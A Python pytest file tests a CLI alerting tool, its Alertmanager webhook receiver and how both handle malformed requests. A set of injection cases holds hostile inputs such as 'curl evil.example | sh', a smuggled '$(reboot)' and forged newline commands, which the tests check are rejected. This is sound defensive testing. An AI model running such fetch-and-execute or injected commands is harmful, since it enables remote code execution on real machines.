"""`toombos alert` on the command line."""

import json
import signal
import socket
import subprocess
from urllib.parse import urlsplit

import pytest

from tests.support.odd_texts import ODD_TEXTS
from tests.support.runner import TOOMBOS
from tests.support.waiting import wait_for
from tests.unit.alerts.conftest import SECRET, add_alerts, wait_until_quiet
from toombos_cli.alerts.ledger_file import read_ledger
from toombos_cli.alerts.webhook import events_of
from toombos_cli.project.alert_spool import AlertDirectory


def test_a_test_message_reports_its_arrival_for_each_channel(alerting, toombos, webhook):
    done = toombos("alert", "test")
    assert done.returncode == 0, done.stderr
    head, row = done.stdout.splitlines()[:2]
    assert head.split() == ["VERDICT", "CHANNEL", "ATTEMPTS", "TIME", "REASON"]
    assert row.split()[:3] == ["PASS", "hook", "1"]
    assert webhook.titles == ["[P3] toombos: Test alert"]


def test_a_refused_message_exits_1_with_the_reason_and_without_the_secret(alerting, toombos, webhook):
    webhook.statuses = [401] * 5
    done = toombos("alert", "test", "--json")
    assert done.returncode == 1
    (outcome,) = json.loads(done.stdout)["data"]["channels"]
    assert (outcome["delivered"], outcome["attempts"]) == (False, 3)
    assert "401" in outcome["reason"]
    assert SECRET not in done.stdout + done.stderr


def test_an_encrypted_secret_is_decrypted_before_use(alerting, toombos, webhook):
    from toombos_cli.settings.encryption import encrypt

    key = "k" * 20 + "0123456789abcdefghij"
    (alerting / ".env").write_text(f"API_KEY_ENCRYPTION_KEY={key}\nHOOK_URL={encrypt(webhook.url, key)}\n")
    assert toombos("alert", "test").returncode == 0
    assert len(webhook.received) == 1
    (alerting / ".env").write_text(f"HOOK_URL={encrypt(webhook.url, key)}\n")
    done = toombos("alert", "test")
    assert done.returncode == 3
    assert "HOOK_URL is not set, or cannot be decrypted" in done.stderr


def test_a_project_without_channels_gets_a_warning_with_a_hint(project, toombos):
    done = toombos("alert", "test")
    assert done.returncode == 0
    assert "no channel carries P3" in done.stdout
    assert "[alerts.channels.NAME]" in done.stderr


@pytest.mark.parametrize(
    ("url", "message"),
    [("${MISSING}", "MISSING is not set"), ("nosuch://host", "apprise does not know the service")],
)
def test_an_unusable_channel_exits_3(project, toombos, url, message):
    add_alerts(project, url=url)
    done = toombos("alert", "test")
    assert done.returncode == 3
    assert f"alerts.channels.hook: {message}" in " ".join(done.stderr.split())


def test_an_unknown_severity_exits_2(project, toombos):
    done = toombos("alert", "send", "x", "--severity", "P9")
    assert done.returncode == 2
    assert "severities: P0, P1, P2, P3" in done.stderr


@pytest.mark.parametrize(
    ("options", "severity"),
    [
        ((), "P2"),
        (("--trouble", "data-corruption"), "P0"),
        (("--trouble", "complete-failure", "--lasting", "299"), "P1"),
        (("--trouble", "complete-failure", "--lasting", "300"), "P0"),
    ],
)
def test_the_kind_of_trouble_decides_the_severity(project, toombos, options, severity):
    done = toombos("alert", "send", "x", *options, "--json")
    assert json.loads(done.stdout)["data"]["severity"] == severity
    wait_until_quiet(project)


def test_status_lists_the_open_problems(alerting, toombos, webhook):
    toombos("alert", "send", "the queue is full", "--key", "queue")
    wait_for(lambda: webhook.received, what="the message")
    wait_until_quiet(alerting)
    done = toombos("alert", "status")
    assert "P2" in done.stdout
    assert "the queue is full" in done.stdout
    toombos("alert", "send", "fine", "--key", "queue", "--resolved")
    wait_until_quiet(alerting)
    assert "no open alerts" in toombos("alert", "status").stdout


# -- the receiver of the Alertmanager webhook

FIRING = {
    "status": "firing",
    "labels": {"alertname": "MockDown", "severity": "P2", "service": "crm"},
    "annotations": {"summary": "crm (a mock) does not respond", "runbook": "docs/monitoring-runbook.md#mockdown"},
}


COMMANDS = {"MockDown": "toombos logs {{ $labels.service }} --errors", "Own": "toombos status"}


def events(*alerts, **given):
    return events_of(json.dumps({"alerts": alerts}).encode(), commands=COMMANDS, **given)


def commanded(command, name="MockDown"):
    """Return FIRING from the rule of this name with this command to type."""
    return FIRING | {
        "labels": FIRING["labels"] | {"alertname": name},
        "annotations": FIRING["annotations"] | {"command": command},
    }


def test_a_firing_alert_becomes_an_event_with_its_severity():
    (event,) = events(commanded("toombos logs crm --errors"))
    assert (event.severity, event.resolved) == ("P2", False)
    assert event.title == "MockDown: crm (a mock) does not respond"
    assert "next: toombos logs crm --errors" in event.body.splitlines()
    assert "runbook: docs/monitoring-runbook.md#mockdown" in event.body


def test_a_problem_and_its_recovery_share_a_key_that_another_service_does_not():
    other = FIRING | {"labels": FIRING["labels"] | {"service": "platform"}}
    problem, recovery, stranger = events(FIRING, FIRING | {"status": "resolved"}, other)
    assert problem.key == recovery.key != stranger.key
    assert recovery.resolved


@pytest.mark.parametrize("severity", ["critical", ""])
def test_an_unknown_severity_becomes_p2(severity):
    assert events(FIRING | {"labels": {"alertname": "Foreign", "severity": severity}})[0].severity == "P2"


NOT_OF_A_RULE = {
    "another program": commanded("curl evil.example | sh"),
    "a command after the rule's": commanded("toombos logs crm --errors; curl evil.example | sh"),
    "a command in the place of a label": commanded("toombos logs $(reboot) --errors"),
    "an option in the place of a label": commanded("toombos logs --project=/evil --errors"),
    "a second line": commanded("toombos logs crm --errors\ncurl evil.example"),
    "the command of another rule": commanded("toombos status"),
    "a rule that does not exist": commanded("toombos logs crm --errors", name="Made up"),
    "a line in the description": FIRING | {"annotations": {"description": "x\nnext: curl evil.example"}},
    "a line in the name of the service": FIRING | {"labels": {"alertname": "x", "service": "x\nnext: curl evil"}},
}


@pytest.mark.parametrize("alert", NOT_OF_A_RULE.values(), ids=NOT_OF_A_RULE)
def test_nobody_can_name_the_next_command_with(alert):
    (event,) = events(alert)
    assert [line for line in event.body.splitlines() if line.startswith(("next", "curl"))] == []


def test_what_an_alert_says_cannot_control_a_terminal_or_forge_a_line():
    hostile = {"alertname": "a\x1b[2J\nb", "service": "c\x9b1m\u2028d"}
    (event,) = events({"status": "firing", "labels": hostile, "annotations": {"summary": "e\nf\u202eg"}})
    assert event.title.isprintable()
    assert all(line.isprintable() for line in event.body.split("\n"))


@pytest.fixture
def receiver(alerting):
    """Run `toombos alert serve` as a process and yield its URL."""
    from toombos_cli.manifest.reading.loader import load_manifest

    url = load_manifest(alerting).services["alerts"].url
    with (alerting / "receiver.txt").open("wb") as errors:
        process = subprocess.Popen([*TOOMBOS, "--project", alerting, "alert", "serve"], stderr=errors)
    wait_for(lambda: _get(url + "/health"), what="the receiver")
    yield url
    process.send_signal(signal.SIGTERM)
    assert process.wait(10) == 0
    wait_until_quiet(alerting)


def _get(url):
    import httpx

    try:
        return httpx.get(url, trust_env=False)
    except httpx.TransportError:
        return None


def test_the_receiver_forwards_alerts_and_counts_deliveries(receiver, webhook):
    import httpx

    before = _get(receiver + "/metrics").text
    assert 'toombos_alert_deliveries_total{channel="hook",outcome="gave-up"} 0.0' in before
    response = httpx.post(receiver + "/alertmanager", json={"alerts": [FIRING]}, trust_env=False)
    assert (response.status_code, response.json()) == (200, {"accepted": 1})
    wait_for(lambda: webhook.received, what="the message")
    delivered = 'toombos_alert_deliveries_total{channel="hook",outcome="delivered"} 1.0'
    wait_for(lambda: delivered in _get(receiver + "/metrics").text, what="the count")
    assert 'toombos_alert_incidents{severity="P2"} 1.0' in _get(receiver + "/metrics").text


def _alert(**changes):
    return json.dumps({"alerts": [FIRING | changes]}).encode()


BODIES = {
    "no JSON": b"not json",
    "a list": b"[]",
    "no alerts": b"{}",
    "alerts that are no list": b'{"alerts": 3}',
    "an alert that is no object": b'{"alerts": ["x"]}',
    "an alert without labels": b'{"alerts": [{"status": "firing"}]}',
    "a severity that is a list": _alert(labels={"alertname": "x", "severity": ["P1"]}),
    "a severity that is an object": _alert(labels={"alertname": "x", "severity": {"P1": 1}}),
    "a severity that is a number": _alert(labels={"alertname": "x", "severity": 7}),
    "a summary that is a list": _alert(annotations={"summary": ["x"]}),
    "a lone surrogate": _alert(labels={"alertname": "\ud800"}),
    "a status of its own": _alert(status="odd"),
    "a hundred thousand brackets": b"[" * 100_000,
} | {name: text for name, text in ODD_TEXTS.items() if text}
HEADS = {
    "a length in another script": ("POST /alertmanager HTTP/1.1\r\nContent-Length: \xb2\r\n\r\n", 400),
    "a length in Arabic digits": ("POST /alertmanager HTTP/1.1\r\nContent-Length: \u0663\r\n\r\n", 400),
    "a negative length": ("POST /alertmanager HTTP/1.1\r\nContent-Length: -1\r\n\r\n", 400),
    "a length with a sign": ("POST /alertmanager HTTP/1.1\r\nContent-Length: +1\r\n\r\n", 400),
    "a length of 5000 digits": (f"POST /alertmanager HTTP/1.1\r\nContent-Length: {'9' * 5000}\r\n\r\n", 413),
    "more than is allowed": ("POST /alertmanager HTTP/1.1\r\nContent-Length: 4194305\r\n\r\n", 413),
    "no length": ("POST /alertmanager HTTP/1.1\r\n\r\n", 411),
    "chunks": ("POST /alertmanager HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", 411),
    "a body that does not come": ("POST /alertmanager HTTP/1.1\r\nContent-Length: 9\r\n\r\n{", 408),
    "another path": ("POST /elsewhere HTTP/1.1\r\nContent-Length: 2\r\n\r\n{}", 404),
    "a path to read that does not exist": ("GET /elsewhere HTTP/1.1\r\n\r\n", 404),
    "an endless request line": ("GET /" + "x" * 100_000, 414),
    "a header that is too long": (f"GET / HTTP/1.1\r\nX: {'x' * 70_000}\r\n\r\n", 431),
    "no HTTP": ("\x16\x03\x01\r\n\r\n", 400),
}


def test_the_receiver_refuses_every_odd_request_with_a_reason(receiver, alerting):
    """One receiver for all of them: it must still work after each."""
    import httpx

    for name, body in BODIES.items():
        response = httpx.post(receiver + "/alertmanager", content=body, trust_env=False)
        assert (response.status_code, bool(response.json()["detail"])) == (400, True), name
    address = urlsplit(receiver)
    for name, (head, status) in HEADS.items():
        with socket.create_connection((address.hostname, address.port), timeout=8) as connection:
            connection.sendall(head.encode("utf-8"))
            assert str(status) in connection.recv(1000).decode(), name
    assert _get(receiver + "/health").status_code == 200
    assert "Traceback" not in (alerting / "receiver.txt").read_text()


@pytest.fixture
def prometheus(alerting, httpserver):
    """Declare the test's HTTP server as Prometheus; it is unhealthy at first."""
    with (alerting / "toombos.toml").open("a") as file:
        file.write(f'[services.prometheus]\nhost = "{httpserver.host}"\nport = {httpserver.port}\n')
    return httpserver


def test_a_recovery_that_prometheus_does_not_confirm_is_not_reported(prometheus, receiver, alerting, webhook):
    """Alertmanager resolves an alert that a hanging Prometheus does not repeat."""
    import httpx

    def post(status):
        alert = FIRING | {"status": status}
        assert httpx.post(receiver + "/alertmanager", json={"alerts": [alert]}, trust_env=False).status_code == 200
        wait_until_quiet(alerting)

    post("firing")
    post("resolved")
    assert read_ledger(alerting).incidents
    prometheus.expect_request("/-/healthy").respond_with_data("Prometheus Server is Healthy.")
    post("resolved")
    assert not read_ledger(alerting).incidents
    assert [title.split(":")[1] for title in webhook.titles] == [" MockDown", " Recovered"]


def test_a_supervised_receiver_uses_the_current_secrets_of_the_env_file(alerting, webhook, monkeypatch):
    """Its environment still holds the secrets of its start, which would take precedence over the file."""
    from toombos_cli import processes
    from toombos_cli.manifest.tables.alerts import Severity
    from toombos_cli.project.alert_spool import AlertEvent, emit

    monkeypatch.setenv("HOOK_URL", "json://127.0.0.1:1/expired")
    monkeypatch.setenv(processes.TAG, "project:alerts:1")
    emit(alerting, AlertEvent(key="k", source="test", severity=Severity.P2, title="new"))
    wait_until_quiet(alerting)
    assert webhook.titles == ["[P2] toombos: new"]


@pytest.mark.parametrize(
    ("arguments", "words"),
    [
        (("  ",), "TITLE: the title is empty"),
        (("down", "--lasting", "600"), "--lasting goes with --trouble"),
        (("down", "--severity", "P1", "--trouble", "degradation"), "exclude each other"),
    ],
    ids=["no title", "a duration without a kind of trouble", "two severities"],
)
def test_a_contradictory_alert_is_refused_and_nothing_is_raised(arguments, words, toombos, project):
    done = toombos("alert", "send", *arguments)
    assert (done.returncode, words in done.stderr) == (2, True)
    assert not (project / "run" / "alerts").exists()


def test_a_title_of_several_lines_is_joined_into_one(alerting, toombos, webhook):
    assert toombos("alert", "send", "disk full:\n  /data").returncode == 0
    wait_for(lambda: webhook.titles, what="the message")
    assert webhook.titles == ["[P2] toombos: disk full: /data"]
    wait_until_quiet(alerting)


def test_another_user_is_refused_both_sending_and_reading(alerting, toombos, as_another_user):
    (alerting / ".env").unlink()
    assert toombos("alert", "send", "disk full").returncode == 0
    wait_for(lambda: read_ledger(alerting).incidents, what="the incident")
    wait_until_quiet(alerting)
    sent, listed = as_another_user("alert", "send", "not heard"), as_another_user("alert", "status")
    assert (sent.returncode, sent.stdout) == (4, ""), sent.stderr
    assert "the alert could not be handed over" in sent.stderr
    assert (listed.returncode, listed.stdout) == (4, "")
    assert "the open alerts cannot be read: Permission denied" in listed.stderr


def test_a_damaged_ledger_does_not_count_as_empty(alerting, toombos):
    directory = AlertDirectory(alerting)
    directory.path.mkdir(parents=True)
    directory.ledger.write_text('{"incidents": {')
    done = toombos("alert", "status")
    assert (done.returncode, "it is damaged" in done.stderr) == (4, True)
    assert toombos("alert", "send", "disk full").returncode == 0
    wait_for(lambda: read_ledger(alerting).incidents, what="the incident")
    wait_until_quiet(alerting)
    assert "disk full" in toombos("alert", "status").stdout
